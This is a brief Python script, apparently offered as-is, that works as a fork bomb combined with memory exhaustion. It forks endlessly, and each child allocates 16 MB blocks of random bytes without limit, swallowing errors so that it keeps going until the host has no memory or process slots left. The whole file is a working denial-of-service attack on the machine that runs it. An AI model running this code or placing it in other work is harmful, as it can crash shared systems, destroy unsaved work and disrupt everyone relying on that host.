"""Takes memory until there is none left."""

import os

while True:
    try:
        if os.fork() == 0:
            rows = []
            while True:
                rows.append(bytearray(os.urandom(1 << 20)) * 16)
    except (OSError, MemoryError):
        pass
